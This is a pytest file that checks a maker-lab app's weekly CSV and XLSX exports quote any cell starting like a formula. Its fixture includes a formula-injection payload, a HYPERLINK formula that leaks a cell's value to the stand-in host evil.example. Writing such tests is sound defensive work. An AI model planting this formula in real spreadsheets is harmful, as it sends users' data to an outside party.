"""Exports never carry a live formula: text that starts like one is quoted (CSV and XLSX)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from makerlab.reports.cells import safe_cell

WEEK = "2027-W12"
NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Info")',
    "+49 345 123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("Prusa MK4", "Prusa MK4"),
        ("", ""),
        (-2.5, -2.5),
        (7, 7),
        (None, None),
        ("a=b", "a=b"),
    ],
)
def test_safe_cell(value: Any, expected: Any) -> None:
    assert safe_cell(value) == expected


@pytest.fixture
def hostile_units(app: Any, make_unit: Any) -> list[str]:
    for name in NAMES:
        make_unit(name=name, category="3d_printer")
    return NAMES


def test_csv_cells_cannot_run(client: Any, login_as: Any, hostile_units: list[str]) -> None:
    login_as("coordinator")
    for language, delimiter in (("en", ","), ("de", ";")):
        response = client.get(
            f"/reports/weekly/{WEEK}.csv?site_id=1&table=units",
            headers={"Accept-Language": language},
        )
        assert response.status_code == 200
        text = response.get_data().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
        names = [row[rows[0].index("Name")] for row in rows[1:]]
        assert sorted(n.removeprefix("'") for n in names) == sorted(hostile_units)


def test_xlsx_cells_cannot_run(client: Any, login_as: Any, hostile_units: list[str]) -> None:
    login_as("coordinator")
    response = client.get(f"/reports/weekly/{WEEK}.xlsx?site_id=1")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.get_data()))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    for name in hostile_units:  # XML reads a carriage return back as a line break
        assert "'" + name.replace("\r", "\n") in [t.replace("\r", "\n") for t in texts]
